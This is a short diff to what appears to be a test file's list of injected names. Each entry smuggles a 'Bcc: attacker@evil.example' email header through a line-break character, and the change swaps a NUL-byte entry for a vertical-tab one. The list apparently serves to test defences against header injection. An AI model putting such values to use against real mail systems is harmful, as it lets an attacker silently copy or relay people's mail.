@@ -23,7 +23,7 @@ INJECTED_NAMES = [
     "x\nBcc: attacker@evil.example",
     "x\rBcc: attacker@evil.example",
     "x\u2028Bcc: attacker@evil.example",
-    "x\x00y",
+    "x\x0bBcc: attacker@evil.example",  # a vertical tab: a line break to str.splitlines (PostgreSQL refuses NUL)
 ]
 
 
